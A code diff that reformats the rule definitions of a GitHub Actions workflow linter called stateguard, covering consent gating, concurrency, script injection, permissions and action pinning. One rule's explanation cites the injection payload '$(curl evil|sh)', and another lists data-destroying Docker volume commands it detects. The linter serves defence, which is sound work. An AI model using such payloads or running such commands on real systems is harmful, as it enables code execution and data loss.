@@ -24,125 +24,232 @@ export const RULES = [
     name: 'workflow-schema',
     severity: 'error',
     summary: 'The workflow does not match the GitHub Actions workflow schema, or an expression in it is invalid.',
-    why: "These errors come from GitHub's own workflow parser (@actions/workflow-parser): the runner would refuse the file or evaluate something other than what was written. No other rule can be trusted on a file the runner reads differently.",
+    why:
+      "These errors come from GitHub's own workflow parser (@actions/workflow-parser): the runner would refuse " +
+      'the file or evaluate something other than what was written. No other rule can be trusted on a file the runner ' +
+      'reads differently.',
     fix: 'Correct the key, value or `${{ }}` expression at the reported position, as the message says.',
-    coveredBy: "actionlint checks the workflow schema and `${{ }}` expressions too (with its own implementation); zizmor does not validate the schema.",
+    coveredBy:
+      'actionlint checks the workflow schema and `${{ }}` expressions too (with its own implementation); zizmor does ' +
+      'not validate the schema.',
   },
   {
     id: 'SG001',
     name: 'workflow-yaml',
     severity: 'error',
-    summary: 'The file is not a readable workflow: YAML syntax error, not valid UTF-8, larger than 1 MiB, more than one document, not a mapping, or aliases that expand too much.',
+    summary:
+      'The file is not a readable workflow: YAML syntax error, not valid UTF-8, larger than 1 MiB, more than one ' +
+      'document, not a mapping, or aliases that expand too much.',
     why: 'A workflow that cannot be read safely cannot be checked; stateguard fails closed rather than skipping it.',
-    fix: 'Fix the YAML at the reported position. Keep one workflow per file, UTF-8, under 1 MiB, and use anchors/aliases sparingly.',
-    coveredBy: "actionlint reports YAML syntax errors too; the size, UTF-8, single-document and alias limits are stateguard's.",
+    fix:
+      'Fix the YAML at the reported position. Keep one workflow per file, UTF-8, under 1 MiB, and use ' +
+      'anchors/aliases sparingly.',
+    coveredBy:
+      "actionlint reports YAML syntax errors too; the size, UTF-8, single-document and alias limits are stateguard's.",
   },
   {
     id: 'SG002',
     name: 'lint-suppression',
     severity: 'error',
-    summary: 'An inline suppression (`# stateguard-lint: ignore SGnnn -- reason`) has no reason, names an unknown rule or one that cannot be suppressed (SG001, SG002), or is not an `ignore` directive.',
-    why: 'A suppression is a deliberate exception someone must be able to review: without a reason nobody can judge it later, and a mistyped rule ID would silently suppress nothing. The problem it meant to suppress is still reported.',
-    fix: 'Write `# stateguard-lint: ignore SG106 -- why this is safe here` on the line of the problem or the line above it; several rules: `ignore SG106, SG201 -- reason`.',
-    coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+    summary:
+      'An inline suppression (`# stateguard-lint: ignore SGnnn -- reason`) has no reason, names an unknown rule or ' +
+      'one that cannot be suppressed (SG001, SG002), or is not an `ignore` directive.',
+    why:
+      'A suppression is a deliberate exception someone must be able to review: without a reason nobody can judge ' +
+      'it later, and a mistyped rule ID would silently suppress nothing. The problem it meant to suppress is still ' +
+      'reported.',
+    fix:
+      'Write `# stateguard-lint: ignore SG106 -- why this is safe here` on the line of the problem or the line ' +
+      'above it; several rules: `ignore SG106, SG201 -- reason`.',
+    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
   },
   {
     id: 'SG101',
     name: 'apply-automatic-trigger',
     severity: 'error',
-    summary: "A stateguard command that changes or stops stateful modules (`apply`, `stateful-apply`, `restore`, `recover`, `upgrade`, `snapshot`, or a command given by an expression or variable), as an action step or as a CLI call in `run:`, is reachable from a trigger other than `workflow_dispatch` (a `snapshot` may also run on `schedule`: scheduled backups are routine; it may not run on a push or a pull request).",
-    why: 'Only a human, through `workflow_dispatch`, may change a stateful module: a push, a pull request, a schedule or a calling workflow would apply without anyone typing the confirm token and naming a verified backup. `if:` conditions are not trusted to restrict triggers (they are easy to get wrong); `workflow_call` counts as automatic because the caller can be triggered by anything.',
-    fix: 'Move the apply job to its own workflow whose only trigger is `on: workflow_dispatch`; keep `plan` in the pull-request workflow.',
-    coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+    summary:
+      'A stateguard command that changes or stops stateful modules (`apply`, `stateful-apply`, `restore`, `recover`, ' +
+      '`upgrade`, `snapshot`, or a command given by an expression or variable), as an action step or as a CLI call ' +
+      'in `run:`, is reachable from a trigger other than `workflow_dispatch` (a `snapshot` may also run on ' +
+      '`schedule`: scheduled backups are routine; it may not run on a push or a pull request).',
+    why:
+      'Only a human, through `workflow_dispatch`, may change a stateful module: a push, a pull request, a ' +
+      'schedule or a calling workflow would apply without anyone typing the confirm token and naming a verified ' +
+      'backup. `if:` conditions are not trusted to restrict triggers (they are easy to get wrong); `workflow_call` ' +
+      'counts as automatic because the caller can be triggered by anything.',
+    fix:
+      'Move the apply job to its own workflow whose only trigger is `on: workflow_dispatch`; keep `plan` in the ' +
+      'pull-request workflow.',
+    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
   },
   {
     id: 'SG102',
     name: 'apply-input-hardcoded',
     severity: 'error',
-    summary: "`confirm`, `backup-ref` or `allow-stateful` of an apply (the step's `with:`, or `--confirm`/`--backup-ref`/`--allow-stateful` of a CLI call in `run:`) is hard-coded instead of taken from a workflow input, directly or through `env:`.",
-    why: 'These three values are the operator\'s explicit consent, the backup they vouch for and the exact confirm token. Written into the workflow, they consent once for every future run.',
-    fix: "Pass each one from a `workflow_dispatch` input, e.g. `allow-stateful: ${{ inputs.allow_stateful }}`, `backup-ref: ${{ inputs.backup_ref }}`, `confirm: ${{ inputs.stateful_confirm }}` (or `github.event.inputs.*`). In a `run:`, pass the input through `env:` and write `--confirm \"$CONFIRM\"`; `--allow-stateful` alone means true, so write `--allow-stateful=\"$ALLOW\"`.",
-    coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+    summary:
+      "`confirm`, `backup-ref` or `allow-stateful` of an apply (the step's `with:`, or " +
+      '`--confirm`/`--backup-ref`/`--allow-stateful` of a CLI call in `run:`) is hard-coded instead of taken from ' +
+      'a workflow input, directly or through `env:`.',
+    why:
+      "These three values are the operator's explicit consent, the backup they vouch for and the exact confirm " +
+      'token. Written into the workflow, they consent once for every future run.',
+    fix:
+      'Pass each one from a `workflow_dispatch` input, e.g. `allow-stateful: ${{ inputs.allow_stateful }}`, ' +
+      '`backup-ref: ${{ inputs.backup_ref }}`, `confirm: ${{ inputs.stateful_confirm }}` (or ' +
+      '`github.event.inputs.*`). In a `run:`, pass the input through `env:` and write `--confirm "$CONFIRM"`; ' +
+      '`--allow-stateful` alone means true, so write `--allow-stateful="$ALLOW"`.',
+    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
   },
   {
     id: 'SG103',
     name: 'dispatch-input-unsafe',
     severity: 'error',
-    summary: "A workflow input that feeds consent (`allow_stateful`, `stateful_confirm`, `backup_ref`, or an input of any name that reaches `allow-stateful`, `confirm` or `backup-ref`) is unsafe: the allow input is not `type: boolean` with `default: false`, or a confirm or backup input is not `required: true` or has a default.",
-    why: "A consent input that defaults to yes, or a confirm token or backup reference filled in by default, lets a run apply to stateful data without the operator deciding it. Renaming the input changes nothing: it is followed from `workflow_dispatch` and `workflow_call` inputs through `with:` and `env:` to the flag it feeds, and a default equal to the confirm token confirms every run.",
-    fix: "Declare the allow input as `{type: boolean, default: false}`, and the confirm and backup inputs with `required: true` and no `default`, whatever they are called.",
-    coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+    summary:
+      'A workflow input that feeds consent (`allow_stateful`, `stateful_confirm`, `backup_ref`, or an input of any ' +
+      'name that reaches `allow-stateful`, `confirm` or `backup-ref`) is unsafe: the allow input is not `type: ' +
+      'boolean` with `default: false`, or a confirm or backup input is not `required: true` or has a default.',
+    why:
+      'A consent input that defaults to yes, or a confirm token or backup reference filled in by default, lets a ' +
+      'run apply to stateful data without the operator deciding it. Renaming the input changes nothing: it is ' +
+      'followed from `workflow_dispatch` and `workflow_call` inputs through `with:` and `env:` to the flag it ' +
+      'feeds, and a default equal to the confirm token confirms every run.',
+    fix:
+      'Declare the allow input as `{type: boolean, default: false}`, and the confirm and backup inputs with ' +
+      '`required: true` and no `default`, whatever they are called.',
+    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
   },
   {
     id: 'SG104',
     name: 'apply-concurrency',
     severity: 'error',
-    summary: "A job running a mutating stateguard command has no `concurrency` group (job or workflow level), a group that is different for every run (it reads `github.run_id`, `run_number` or `run_attempt`), or sets `cancel-in-progress` to anything but `false`.",
-    why: "Two applies to the same module at once race on its data; a group unique to each run serialises nothing; cancelling an apply mid-way is a crash in the middle of a change.",
-    fix: 'Add `concurrency: { group: stateful-apply-${{ inputs.module }}, cancel-in-progress: false }` to the apply job.',
-    coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+    summary:
+      'A job running a mutating stateguard command has no `concurrency` group (job or workflow level), a group that ' +
+      'is different for every run (it reads `github.run_id`, `run_number` or `run_attempt`), or sets ' +
+      '`cancel-in-progress` to anything but `false`.',
+    why:
+      'Two applies to the same module at once race on its data; a group unique to each run serialises nothing; ' +
+      'cancelling an apply mid-way is a crash in the middle of a change.',
+    fix:
+      'Add `concurrency: { group: stateful-apply-${{ inputs.module }}, cancel-in-progress: false }` to the apply ' +
+      'job.',
+    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
   },
   {
     id: 'SG105',
     name: 'gate-continue-on-error',
     severity: 'error',
-    summary: 'A guard, verify-backup, e2e-gate or apply step (or the job holding it) has `continue-on-error` set to anything but `false`.',
-    why: 'These steps exist to say no. With `continue-on-error: true` a "no" turns into a green check and the workflow goes on as if the gate had passed.',
-    fix: 'Remove `continue-on-error` from the step and its job. To react to a refusal, branch on the step\'s `failure-reason` output in a later step with `if: failure()`.',
-    coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+    summary:
+      'A guard, verify-backup, e2e-gate or apply step (or the job holding it) has `continue-on-error` set to ' +
+      'anything but `false`.',
+    why:
+      'These steps exist to say no. With `continue-on-error: true` a "no" turns into a green check and the ' +
+      'workflow goes on as if the gate had passed.',
+    fix:
+      "Remove `continue-on-error` from the step and its job. To react to a refusal, branch on the step's " +
+      '`failure-reason` output in a later step with `if: failure()`.',
+    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
   },
   {
     id: 'SG106',
     name: 'compose-volume-removal',
     severity: 'error',
-    summary: "A `run:` deletes or recreates Docker volumes: `docker compose`/`docker-compose` with `down`/`rm` `-v`/`--volumes`, `-V`/`--renew-anon-volumes` or `-y`/`--yes`; `docker volume rm`/`prune`; `docker system prune --volumes`; `docker rm -v`. Checked in every workflow.",
-    why: "These commands delete or recreate volumes, or answer yes to compose's \"data will be lost\" prompt: exactly the data stateguard exists to protect, in any workflow. The script is read the way a shell reads it (quotes, docker and compose global options such as `--context` or `-p`, a command kept in a variable such as `DC=\"docker compose\"; $DC down -v`, `sudo`, `bash -c '\u2026'`, `$( )`), not matched as text.",
-    fix: "Drop the flag (`docker compose down` keeps named volumes). Change a stateful service only through stateguard's guarded apply; remove a volume by hand after a verified backup. For a deliberate exception, such as a throw-away test stack, suppress it on that line with the reason: `# stateguard-lint: ignore SG106 -- <why this is safe>`.",
-    coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+    summary:
+      'A `run:` deletes or recreates Docker volumes: `docker compose`/`docker-compose` with `down`/`rm` ' +
+      '`-v`/`--volumes`, `-V`/`--renew-anon-volumes` or `-y`/`--yes`; `docker volume rm`/`prune`; `docker system ' +
+      'prune --volumes`; `docker rm -v`. Checked in every workflow.',
+    why:
+      'These commands delete or recreate volumes, or answer yes to compose\'s "data will be lost" prompt: exactly ' +
+      'the data stateguard exists to protect, in any workflow. The script is read the way a shell reads it (quotes, ' +
+      'docker and compose global options such as `--context` or `-p`, a command kept in a variable such as ' +
+      '`DC="docker compose"; $DC down -v`, `sudo`, `bash -c \'\u2026\'`, `$( )`), not matched as text.',
+    fix:
+      'Drop the flag (`docker compose down` keeps named volumes). Change a stateful service only through ' +
+      "stateguard's guarded apply; remove a volume by hand after a verified backup. For a deliberate exception, such " +
+      'as a throw-away test stack, suppress it on that line with the reason: `# stateguard-lint: ignore SG106 -- ' +
+      '<why this is safe>`.',
+    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
   },
   {
     id: 'SG107',
     name: 'dispatch-consent-prefilled',
     severity: 'error',
-    summary: 'A workflow with an automatic trigger dispatches a workflow with consent filled in: `gh workflow run … -f allow_stateful=true` (or `--field`/`-F`/`--raw-field`, or `stateful_confirm=…`), `gh api …/dispatches` or `curl …/dispatches` with such inputs, or actions/github-script `createWorkflowDispatch` with `allow_stateful`.',
-    why: 'SG101 keeps the apply on `workflow_dispatch`, but a push, schedule or workflow_run that dispatches the apply workflow with `allow_stateful` and the confirm token already set is the same automatic apply, one hop away: consent filled in by automation is no consent. `if:` conditions are not trusted to restrict triggers.',
-    fix: 'Dispatch without consent inputs (the operator ticks `allow_stateful` and types the confirm token when they run the apply workflow by hand), or dispatch from a workflow triggered only by `workflow_dispatch` that passes on its own operator-typed inputs.',
-    coveredBy: "Neither actionlint nor zizmor: this rule is specific to stateguard.",
+    summary:
+      'A workflow with an automatic trigger dispatches a workflow with consent filled in: `gh workflow run … -f ' +
+      'allow_stateful=true` (or `--field`/`-F`/`--raw-field`, or `stateful_confirm=…`), `gh api …/dispatches` or ' +
+      '`curl …/dispatches` with such inputs, or actions/github-script `createWorkflowDispatch` with ' +
+      '`allow_stateful`.',
+    why:
+      'SG101 keeps the apply on `workflow_dispatch`, but a push, schedule or workflow_run that dispatches the ' +
+      'apply workflow with `allow_stateful` and the confirm token already set is the same automatic apply, one hop ' +
+      'away: consent filled in by automation is no consent. `if:` conditions are not trusted to restrict triggers.',
+    fix:
+      'Dispatch without consent inputs (the operator ticks `allow_stateful` and types the confirm token when they ' +
+      'run the apply workflow by hand), or dispatch from a workflow triggered only by `workflow_dispatch` that ' +
+      'passes on its own operator-typed inputs.',
+    coveredBy: 'Neither actionlint nor zizmor: this rule is specific to stateguard.',
   },
   {
     id: 'SG201',
     name: 'script-injection',
     severity: 'error',
-    summary: "An expression that reads untrusted data (`github.event.*`, `github.head_ref`, `inputs.*`, a whole context as in `toJSON(github.event)`, or `env.X` where X was set from such data at workflow, job or step level) is interpolated into a `run:` script or an actions/github-script `script:`. Context names are case-insensitive, as in GitHub's expression parser.",
-    why: 'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or title such as `$(curl evil|sh)` runs as code with the job\'s token and secrets.',
-    fix: 'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and use `"$TITLE"` (or `process.env.TITLE`) in the script.',
-    coveredBy: "Partly. actionlint reports untrusted `github.event.*`/`github.head_ref` inputs in `run:` and github-script; zizmor's template-injection audit reports expressions in `run:` more broadly (its own set of contexts and confidence levels). Following the taint through `env:` into `${{ env.X }}` and treating `inputs.*` as untrusted is stateguard's.",
+    summary:
+      'An expression that reads untrusted data (`github.event.*`, `github.head_ref`, `inputs.*`, a whole context as ' +
+      'in `toJSON(github.event)`, or `env.X` where X was set from such data at workflow, job or step level) is ' +
+      'interpolated into a `run:` script or an actions/github-script `script:`. Context names are ' +
+      "case-insensitive, as in GitHub's expression parser.",
+    why:
+      'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or ' +
+      "title such as `$(curl evil|sh)` runs as code with the job's token and secrets.",
+    fix:
+      'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and use ' +
+      '`"$TITLE"` (or `process.env.TITLE`) in the script.',
+    coveredBy:
+      'Partly. actionlint reports untrusted `github.event.*`/`github.head_ref` inputs in `run:` and github-script; ' +
+      "zizmor's template-injection audit reports expressions in `run:` more broadly (its own set of contexts and " +
+      'confidence levels). Following the taint through `env:` into `${{ env.X }}` and treating `inputs.*` as ' +
+      "untrusted is stateguard's.",
   },
   {
     id: 'SG202',
     name: 'permissions',
     severity: 'error',
     summary: 'The workflow has no top-level `permissions`, or grants `write-all` (top level or job).',
-    why: 'Without `permissions` the token gets the repository default, often write to everything; a compromised step can then push code or rewrite workflows.',
-    fix: 'Add a top-level `permissions:` with the least the workflow needs (e.g. `contents: read`) and widen per job only where needed (e.g. `pull-requests: write` for the plan comment).',
-    coveredBy: "zizmor's excessive-permissions audit (missing or broad permissions); actionlint only checks that permission scopes are valid.",
+    why:
+      'Without `permissions` the token gets the repository default, often write to everything; a compromised step ' +
+      'can then push code or rewrite workflows.',
+    fix:
+      'Add a top-level `permissions:` with the least the workflow needs (e.g. `contents: read`) and widen per job ' +
+      'only where needed (e.g. `pull-requests: write` for the plan comment).',
+    coveredBy:
+      "zizmor's excessive-permissions audit (missing or broad permissions); actionlint only checks that permission " +
+      'scopes are valid.',
   },
   {
     id: 'SG203',
     name: 'untrusted-checkout',
     severity: 'error',
-    summary: '`pull_request_target` or `workflow_run` together with an actions/checkout of the pull request\'s head.',
-    why: 'Those triggers run with the base repository\'s secrets and a write token; checking out the PR head then runs the contributor\'s code with them ("pwn request").',
-    fix: 'Use the `pull_request` trigger for anything that builds or runs the PR\'s code, or check out only the base ref in the privileged workflow.',
-    coveredBy: "zizmor's dangerous-triggers audit flags `pull_request_target`/`workflow_run` themselves (more broadly); actionlint does not.",
+    summary: "`pull_request_target` or `workflow_run` together with an actions/checkout of the pull request's head.",
+    why:
+      "Those triggers run with the base repository's secrets and a write token; checking out the PR head then " +
+      'runs the contributor\'s code with them ("pwn request").',
+    fix:
+      "Use the `pull_request` trigger for anything that builds or runs the PR's code, or check out only the base " +
+      'ref in the privileged workflow.',
+    coveredBy:
+      "zizmor's dangerous-triggers audit flags `pull_request_target`/`workflow_run` themselves (more broadly); " +
+      'actionlint does not.',
   },
   {
     id: 'SG301',
     name: 'action-not-pinned',
     severity: 'warning',
     summary: '`uses:` does not pin the action or reusable workflow to a full 40-character commit SHA.',
-    why: 'A tag or branch can be moved to other code at any time; only a commit SHA names exactly the code that runs with your secrets.',
-    fix: 'Pin to the commit SHA and keep the tag in a comment: `uses: actions/checkout@<40-hex-sha> # v4`. Local `./` actions and `docker://` images with a `@sha256:` digest are exempt.',
+    why:
+      'A tag or branch can be moved to other code at any time; only a commit SHA names exactly the code that runs ' +
+      'with your secrets.',
+    fix:
+      'Pin to the commit SHA and keep the tag in a comment: `uses: actions/checkout@<40-hex-sha> # v4`. Local ' +
+      '`./` actions and `docker://` images with a `@sha256:` digest are exempt.',
     coveredBy: "zizmor's unpinned-uses audit; actionlint does not.",
   },
 ] as const satisfies readonly RuleDef[];
@@ -170,5 +277,11 @@ export interface SuppressedProblem extends Problem {
 }
 
 export function compareProblems(a: Problem, b: Problem): number {
-  return a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
+  return a.file < b.file
+    ? -1
+    : a.file > b.file
+      ? 1
+      : a.line - b.line ||
+        a.column - b.column ||
+        (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
 }
